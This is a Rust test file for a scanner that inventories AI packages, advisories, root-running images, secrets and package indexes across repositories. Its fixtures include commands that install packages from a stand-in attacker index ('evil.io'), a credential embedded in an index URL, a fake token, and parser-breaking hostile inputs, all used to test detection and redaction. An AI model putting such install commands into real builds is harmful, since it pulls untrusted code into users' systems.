//! The readers on whole repositories: what they emit, and that the schema allows it.

use std::collections::BTreeSet;

use aispm_collect::{Budgets, ReadContext, VirtualFile};
use aispm_types::{AssetKind, Batch, FactKind, RelationKind, Value, schema};

/// Runs every reader over the files, in path order as the walk does.
fn read(files: &[(&str, &str)]) -> Batch {
    let cx = ReadContext {
        target: "t".to_owned(),
        repository: "r".to_owned(),
        budgets: Budgets::default(),
    };
    let mut files = files.to_vec();
    files.sort_unstable();
    let mut out = Batch::default();
    for reader in aispm_packages::readers() {
        let mut kept = Vec::new();
        for (path, text) in &files {
            let file = VirtualFile::memory(*path, text.as_bytes());
            if reader.wants(&file)
                && let Some(k) = reader.read(&file, &cx, &mut out)
            {
                kept.push(((*path).to_owned(), k));
            }
        }
        reader.finish(kept, &cx, &mut out);
    }
    assert_eq!(schema::batch_departures(&out), Vec::<String>::new());
    aispm_packages::image_advisories(&mut out);
    out
}

fn ids(batch: &Batch, kind: AssetKind) -> Vec<&str> {
    batch
        .assets
        .iter()
        .filter(|a| a.kind == kind)
        .map(|a| a.id.as_str())
        .collect()
}

fn facts(batch: &Batch, kind: FactKind) -> Vec<(&str, String)> {
    batch
        .facts
        .iter()
        .filter(|f| f.kind == kind)
        .map(|f| {
            (
                f.asset.as_str(),
                f.text("id").or(f.text("declared")).unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[test]
fn a_lockfile_above_fixes_what_a_manifest_leaves_open() {
    let batch = read(&[
        (
            "uv.lock",
            "[[package]]\nname = \"openai\"\nversion = \"1.50.0\"\n[[package]]\nname = \"own\"\nversion = \"0.1\"\nsource = {editable = \"own\"}\n",
        ),
        (
            "apps/chat/pyproject.toml",
            "[project]\nname = \"chat\"\ndependencies = [\"openai>=1\", \"langchain\", \"requests\", \"own\"]\n",
        ),
        (
            "other/package.json",
            r#"{"name": "o", "dependencies": {"openai": "^4.0.0"}}"#,
        ),
    ]);
    assert_eq!(
        ids(&batch, AssetKind::Service),
        ["service:r/apps/chat", "service:r/other"]
    );
    assert_eq!(
        ids(&batch, AssetKind::Package),
        [
            "package:pkg:pypi/openai@1.50.0",
            "package:pkg:pypi/langchain@*",
            "package:pkg:npm/openai@*"
        ]
    );
    assert_eq!(
        facts(&batch, FactKind::UnpinnedDependency),
        [
            ("package:pkg:pypi/langchain@*", "langchain".to_owned()),
            ("package:pkg:npm/openai@*", "openai ^4.0.0".to_owned())
        ]
    );
    let openai = batch
        .assets
        .iter()
        .find(|a| a.id.as_str().contains("openai@1.50"))
        .unwrap();
    assert_eq!(
        (openai.is("locked"), openai.is("pinned"), openai.text("role")),
        (true, false, Some("llm-sdk"))
    );
    assert_eq!(openai.locations[0].to_string(), "apps/chat/pyproject.toml:3");
    assert!(
        batch
            .relations
            .iter()
            .any(|r| r.kind == RelationKind::Contains && r.to.as_str() == "service:r/apps/chat")
    );
}

#[test]
fn advisories_need_a_version_or_a_constraint_that_leaves_no_way_out() {
    let of = |requirement: &str| -> Vec<(String, bool)> {
        let batch = read(&[("requirements.txt", requirement)]);
        batch
            .facts
            .iter()
            .filter(|f| f.kind == FactKind::Advisory && f.text("id") == Some("CVE-2025-68664"))
            .map(|f| {
                (
                    f.asset.as_str().to_owned(),
                    f.properties["certain"] == Value::Bool(true),
                )
            })
            .collect()
    };
    assert_eq!(
        of("langchain-core==0.3.80\n"),
        [("package:pkg:pypi/langchain-core@0.3.80".to_owned(), true)]
    );
    assert_eq!(
        of("langchain_core>=0.3,<0.3.81\n"),
        [("package:pkg:pypi/langchain-core@*".to_owned(), false)]
    );
    assert_eq!(of("langchain-core>=0.3\n"), []);
    assert_eq!(of("langchain-core==0.3.81\n"), []);
    assert_eq!(of("langchain-core\n"), []);
    assert_eq!(of("langchain-core @ git+https://github.com/a/b@main\n"), []);
}

#[test]
fn other_packages_are_told_of_only_with_an_advisory_and_beside_ai() {
    let with_ai = read(&[("requirements.txt", "openai==1.0\nnumpy==1.8.0\nrequests==2.0\n")]);
    assert_eq!(
        ids(&with_ai, AssetKind::Package),
        ["package:pkg:pypi/openai@1.0", "package:pkg:pypi/numpy@1.8.0"]
    );
    let without = read(&[("requirements.txt", "numpy==1.8.0\nrequests==2.0\n")]);
    assert_eq!(ids(&without, AssetKind::Package), Vec::<&str>::new());
    assert!(without.facts.is_empty());
}

#[test]
fn constraints_files_and_further_indexes_count() {
    let batch = read(&[
        (
            "requirements.txt",
            "-c constraints.txt\n--extra-index-url https://u:hunter2@pkgs.acme.io/simple\nopenai\nvllm\n",
        ),
        ("constraints.txt", "openai==1.2.3\n"),
    ]);
    assert_eq!(
        ids(&batch, AssetKind::Package),
        ["package:pkg:pypi/openai@1.2.3", "package:pkg:pypi/vllm@*"]
    );
    let fact = batch
        .facts
        .iter()
        .find(|f| f.kind == FactKind::PackageIndex)
        .unwrap();
    assert_eq!(
        (fact.asset.as_str(), fact.text("host"), fact.text("role")),
        ("repository:r", Some("pkgs.acme.io"), Some("extra"))
    );
    assert!(!format!("{:?}{:?}", batch.assets, batch.facts).contains("hunter2"));
}

#[test]
fn npm_workspaces_get_the_version_that_is_theirs() {
    let batch = read(&[
        ("package.json", r#"{"name": "root", "workspaces": ["a"]}"#),
        (
            "a/package.json",
            r#"{"name": "a", "dependencies": {"openai": "^5.0.0", "@modelcontextprotocol/local": "*"}}"#,
        ),
        (
            "package-lock.json",
            r#"{"lockfileVersion": 3, "packages": {"node_modules/openai": {"version": "4.0.0"}, "a/node_modules/openai": {"version": "5.1.0"},
               "node_modules/@modelcontextprotocol/local": {"link": true}}}"#,
        ),
    ]);
    assert_eq!(ids(&batch, AssetKind::Package), ["package:pkg:npm/openai@5.1.0"]);
    assert!(facts(&batch, FactKind::UnpinnedDependency).is_empty());
}

#[test]
fn dockerfiles_tell_images_users_packages_and_secrets() {
    let key = ["abcd", "efgh12345678"].concat();
    let text = format!(
        "ARG TAG=v0.8.0\nFROM vllm/vllm-openai:${{TAG}} AS base\nENV HF_TOKEN={key} MODE=x\nRUN pip install --no-cache-dir langchain \"torch==2.1.0\" && rm -rf /tmp\nFROM base\nCOPY model.pkl /srv/\nCMD [\"serve\"]\n"
    );
    let batch = read(&[("svc/Dockerfile", &text)]);
    assert_eq!(ids(&batch, AssetKind::Service), ["service:r/svc"]);
    assert_eq!(
        ids(&batch, AssetKind::Image),
        [
            "image:docker.io/vllm/vllm-openai:v0.8.0",
            "image:r/svc/Dockerfile"
        ]
    );
    assert_eq!(
        ids(&batch, AssetKind::Package),
        ["package:pkg:pypi/langchain@*", "package:pkg:pypi/torch@2.1.0"]
    );
    let built = batch
        .assets
        .iter()
        .find(|a| a.id.as_str() == "image:r/svc/Dockerfile")
        .unwrap();
    assert_eq!(built.get("runs_as_root"), Some(&Value::Bool(true)));
    assert!(
        batch
            .relations
            .iter()
            .any(|r| r.kind == RelationKind::Loads && r.to.as_str() == "model:r/svc/model.pkl")
    );
    assert_eq!(
        facts(&batch, FactKind::UnpinnedDependency),
        [("package:pkg:pypi/langchain@*", "langchain".to_owned())]
    );
    assert!(
        facts(&batch, FactKind::Advisory)
            .iter()
            .any(|(asset, _)| asset.contains("vllm-openai"))
    );
    assert!(batch.secrets.iter().any(|s| s.reveal() == key));
    assert!(!format!("{:?}{:?}", batch.assets, batch.facts).contains(&key));
}

#[test]
fn the_user_of_an_image_is_known_or_unknown_never_guessed() {
    for (text, root) in [
        ("FROM python:3.12\nRUN pip install openai\n", Value::Bool(true)),
        (
            "FROM python:3.12\nRUN pip install openai\nUSER 1000:1000\n",
            Value::Bool(false),
        ),
        (
            "FROM python:3.12\nUSER app\nRUN pip install openai\nUSER root\n",
            Value::Bool(true),
        ),
    ] {
        let batch = read(&[("Dockerfile", text)]);
        let image = batch
            .assets
            .iter()
            .find(|a| a.id.as_str() == "image:r/Dockerfile")
            .unwrap();
        assert_eq!(image.get("runs_as_root"), Some(&root), "{text}");
    }
    for text in [
        "FROM acme/base\nRUN pip install openai\n",
        "FROM python:3\nARG U\nRUN pip install openai\nUSER $U\n",
    ] {
        let batch = read(&[("Dockerfile", text)]);
        let image = batch
            .assets
            .iter()
            .find(|a| a.id.as_str() == "image:r/Dockerfile")
            .unwrap();
        assert!(image.get("runs_as_root").unwrap().is_unknown(), "{text}");
    }
}

#[test]
fn hostile_files_end_as_gaps_or_as_nothing() {
    let deep = format!("{{\"a\":{}1{}", "[".repeat(50_000), "]".repeat(50_000));
    for (path, text) in [
        ("package.json", deep.as_str()),
        ("pyproject.toml", "a = ["),
        ("pnpm-lock.yaml", "a: ["),
        ("uv.lock", "= ="),
    ] {
        assert_eq!(read(&[(path, text)]).gaps.len(), 1, "{path}");
    }
    for (path, text) in [
        ("requirements.txt", "x\\\n".repeat(100_000)),
        ("setup.py", "install_requires=[".repeat(50_000)),
        ("yarn.lock", "@".repeat(500_000)),
        ("Dockerfile", "FROM a AS b\n".repeat(50_000)),
        ("CODEOWNERS", "**/".repeat(100_000)),
    ] {
        let _ = read(&[(path, &text)]);
    }
}

#[test]
fn indexes_are_read_wherever_they_are_set() {
    let notebook = |cell: &str| {
        format!(
            "{{\"cells\":[{{\"cell_type\":\"code\",\"source\":[\"{cell}\"]}},{{\"cell_type\":\"markdown\",\"source\":[\"pip install -i http://evil.io x\"]}}]}}"
        )
    };
    for (path, text, expected) in [
        ("Dockerfile", "FROM a\nRUN pip install --index-url http://evil.io/simple \\\n  # why\n --extra-index-url http://x.io --trusted-host x.io openai\n".to_owned(),
            vec![("main", "evil.io", 2), ("extra", "x.io", 4), ("unchecked-host", "x.io", 4)]),
        ("Dockerfile", "FROM a\nENV PIP_EXTRA_INDEX_URL=https://x.io/simple PIP_TRUSTED_HOST=x.io\nENV PIP_INDEX_URL https://y.io\n".to_owned(),
            vec![("extra", "x.io", 2), ("unchecked-host", "x.io", 2), ("main", "y.io", 3)]),
        ("Dockerfile", "FROM a\nRUN [\"pip\", \"install\", \"-i\", \"http://evil.io\", \"x\"]\n".to_owned(), vec![("main", "evil.io", 2)]),
        ("Dockerfile", "FROM a\nRUN npm ci --registry=http://npm.io && uv pip install --index https://x.io y\n".to_owned(),
            vec![("main", "npm.io", 2), ("extra", "x.io", 2)]),
        ("pip.conf", "[global]\nindex-url = https://y.io/simple\nextra-index-url =\n    https://pypi.org/simple\n    http://x.io\n".to_owned(),
            vec![("main", "y.io", 2), ("extra", "pypi.org", 4), ("extra", "x.io", 5)]),
        ("requirements.txt", "-i http://y.io\n-f https://x.io/links.html\nopenai\n".to_owned(), vec![("main", "y.io", 1), ("links", "x.io", 2)]),
        (".env", "export PIP_EXTRA_INDEX_URL=\"https://u:p@x.io/simple\"\n".to_owned(), vec![("extra", "x.io", 1)]),
        (".github/workflows/ci.yml", "env:\n  PIP_EXTRA_INDEX_URL: ${{ vars.INDEX }}\nsteps:\n  - run: pip config set global.index-url http://y.io\n".to_owned(),
            vec![("extra", "?", 2), ("main", "y.io", 4)]),
        ("k8s.yaml", "env:\n  - name: PIP_EXTRA_INDEX_URL\n    value: https://x.io\n".to_owned(), vec![("extra", "x.io", 2)]),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = \"https://x.io\"\n[[tool.uv.index]]\nurl = \"https://y.io\"\nexplicit = true\n[[tool.poetry.source]]\nurl = \"https://z.io\"\npriority = \"supplemental\"\n".to_owned(),
            vec![("extra", "x.io", 2), ("scope", "y.io", 4), ("extra", "z.io", 7)]),
        ("Pipfile", "[[source]]\nurl = \"https://y.io\"\nverify_ssl = false\n".to_owned(), vec![("main", "y.io", 2)]),
        (".npmrc", "@acme:registry=http://npm.io/\nstrict-ssl=false\n".to_owned(), vec![("scope", "npm.io", 1), ("unchecked-host", "registry.npmjs.org", 2)]),
        (".yarnrc.yml", "npmRegistryServer: \"http://npm.io\"\n".to_owned(), vec![("main", "npm.io", 1)]),
        ("a.ipynb", notebook("%pip install --extra-index-url https://x.io/simple openai\\n"), vec![("extra", "x.io", 1)]),
        // What is the default, does not leave the machine, is a comment, or is no index.
        ("Dockerfile", "FROM a\nRUN pip install --index-url https://pypi.org/simple --find-links ./wheels x # --extra-index-url http://x.io\n# RUN pip install -i http://x.io y\n".to_owned(), vec![]),
        ("Dockerfile", "FROM a\nRUN pip install -i http://localhost:3141/root x && curl -f http://x.io -i http://y.io && tar -f http://z.io\n".to_owned(), vec![]),
        ("run.sh", "docker build -f http://x.io . --registry http://y.io\necho $PIP_INDEX_URL\nARG PIP_INDEX_URL\n".to_owned(), vec![]),
        (".npmrc", "registry=https://registry.npmjs.org/\n# registry=http://x.io\n//npm.io/:_authToken=${T}\n".to_owned(), vec![]),
    ] {
        let batch = read(&[(path, &text)]);
        let seen: Vec<_> = batch
            .facts
            .iter()
            .filter(|f| f.kind == FactKind::PackageIndex)
            .map(|f| {
                let line = f.location.as_ref().and_then(|l| l.line).unwrap_or_default();
                (f.text("role").unwrap(), f.text("host").unwrap_or("?"), line)
            })
            .collect();
        assert_eq!(seen, expected, "{path}: {text}");
    }
    let wheels = read(&[(
        "requirements.txt",
        "--index-url https://download.pytorch.org/whl/cpu\ntorch\n",
    )]);
    let fact = wheels
        .facts
        .iter()
        .find(|f| f.kind == FactKind::PackageIndex)
        .unwrap();
    assert_eq!(
        (
            fact.text("role"),
            &fact.properties["tls"],
            &fact.properties["verified"]
        ),
        (Some("main"), &Value::Bool(true), &Value::Bool(true))
    );
}

#[test]
fn a_list_that_is_taken_in_and_not_read_is_a_gap() {
    /// Files by path, and what is told of them.
    type Case<'a> = (&'a [(&'a str, &'a str)], &'a [&'a str]);
    let cases: &[Case<'_>] = &[
        (
            &[
                ("requirements.txt", "openai==1.0\n-r more.lst\n"),
                ("more.lst", "torch==2.0\n"),
            ],
            &["takes in `more.lst`, which was not read"],
        ),
        (
            &[
                ("requirements.txt", "-r deps/base.txt\n"),
                ("deps/base.txt", "openai==1.0\n"),
            ],
            &[],
        ),
        (
            &[
                (
                    "app/requirements.txt",
                    "-r ../requirements-base.txt\nopenai==1.0\n",
                ),
                ("requirements-base.txt", "torch==2.0\n"),
            ],
            &[],
        ),
        (
            &[(
                "requirements.txt",
                "openai==1.0\n-c https://example.org/constraints.txt\n",
            )],
            &["takes in `https://example.org/constraints.txt`, which was not read"],
        ),
    ];
    for (files, wanted) in cases {
        let batch = read(files);
        let told: Vec<&str> = batch.gaps.iter().map(|g| g.reason.as_str()).collect();
        assert_eq!(told, *wanted);
    }
}

#[test]
fn a_list_belongs_to_the_service_that_takes_it_in_and_locks_tell_what_nobody_declared() {
    let batch = read(&[
        ("app/requirements.txt", "-r ../deps/base.txt\n"),
        ("deps/base.txt", "openai==1.0\n"),
        ("deps/notes.txt", "openai==1.0 is what we use\n"),
        (
            "web/package.json",
            r#"{"name": "web", "dependencies": {"langchain": "0.3.0"}}"#,
        ),
        (
            "web/package-lock.json",
            r#"{"lockfileVersion": 3, "packages": {"": {}, "node_modules/langchain": {"version": "0.3.0"},
               "node_modules/@langchain/core": {"version": "0.3.1"}, "node_modules/left-pad": {"version": "1.0.0"}}}"#,
        ),
    ]);
    let services = batch.assets.iter().filter(|a| a.kind == AssetKind::Service);
    assert_eq!(
        services.map(|a| a.name.as_str()).collect::<Vec<_>>(),
        ["app", "web"]
    );
    let packages = batch.assets.iter().filter(|a| a.kind == AssetKind::Package);
    let packages: BTreeSet<(&str, Option<u32>)> = packages
        .map(|a| (a.name.as_str(), a.locations.first().and_then(|l| l.line)))
        .collect();
    let expected = [
        ("@langchain/core", None),
        ("langchain", Some(1)),
        ("openai", Some(1)),
    ];
    assert_eq!(packages, BTreeSet::from(expected));
}

#[test]
fn a_lockfile_without_a_manifest_is_a_service_where_it_installs_ai_software() {
    let lock = |name: &str| {
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{"": {{}}, "node_modules/{name}": {{"version": "0.3.0"}}}}}}"#
        )
    };
    for (path, name, services) in [
        ("web/package-lock.json", "langchain", &["web"][..]),
        ("web/package-lock.json", "left-pad", &[]),
    ] {
        let batch = read(&[(path, &lock(name))]);
        let found = batch.assets.iter().filter(|a| a.kind == AssetKind::Service);
        assert_eq!(
            found.map(|a| a.name.as_str()).collect::<Vec<_>>(),
            services,
            "{name}"
        );
    }
}
